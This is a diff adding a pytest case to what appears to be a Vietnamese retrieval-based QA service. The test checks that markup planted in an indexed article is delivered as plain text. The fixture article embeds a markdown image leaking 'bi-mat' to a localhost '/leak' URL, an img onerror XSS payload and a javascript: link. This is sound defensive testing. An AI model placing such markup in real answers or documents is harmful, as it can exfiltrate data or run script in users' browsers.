@@ -144,3 +144,38 @@ def test_a_negated_restatement_is_not_delivered(stack) -> None:
     for route in ("ask", "widget_final", "completions"):
         assert negated[:60] not in delivered[route], route
     assert negated[:60] not in delivered["ui"]
+
+
+MARKUP_ARTICLE = """Cổng dịch vụ công quốc gia ra mắt ứng dụng mới
+
+Ngày 12/3/2024, Văn phòng Chính phủ cho biết Cổng dịch vụ công quốc gia đã ra mắt ứng dụng \
+di động mới ![x](http://127.0.0.1:9/leak?q=bi-mat) <img src=x onerror=alert(1)> cho phép người \
+dân nộp hồ sơ trực tuyến. Ứng dụng có thể tải tại [trang chủ](javascript:alert(1)) của cổng.
+"""
+
+
+def test_markup_inside_an_article_leaves_as_plain_text(tmp_path) -> None:
+    """An indexed article carrying markup, asked about on the OpenAI-compatible route
+    (extractive mode: the article's own sentence is the answer)."""
+    from index.pipeline import run_index
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "cong-dich-vu.txt").write_text(MARKUP_ARTICLE, encoding="utf-8")
+    env = {"HOIDAP_HOME": str(tmp_path / "home"), "HOIDAP_EMBEDDER": "fake"}
+    settings = Settings.load(env=env)
+    run_index([docs], settings)
+    _, secret = KeyStore.for_home(settings.home).create_admin_key()
+    app = create_app(settings, Assistant(settings), mount_ui=False, api_config=ApiConfig())
+    question = "Cổng dịch vụ công quốc gia đã ra mắt ứng dụng gì?"
+    body = {"model": "hoidap", "messages": [{"role": "user", "content": question}]}
+    with ServerThread(app) as srv:
+        r = httpx.post(
+            f"{srv.url}/v1/chat/completions",
+            json=body,
+            headers={"Authorization": f"Bearer {secret}"},
+            timeout=60,
+        )
+    content = r.json()["choices"][0]["message"]["content"]
+    assert "ứng dụng di động mới cho phép người dân nộp hồ sơ" in content and "[1]" in content
+    _clean(content)
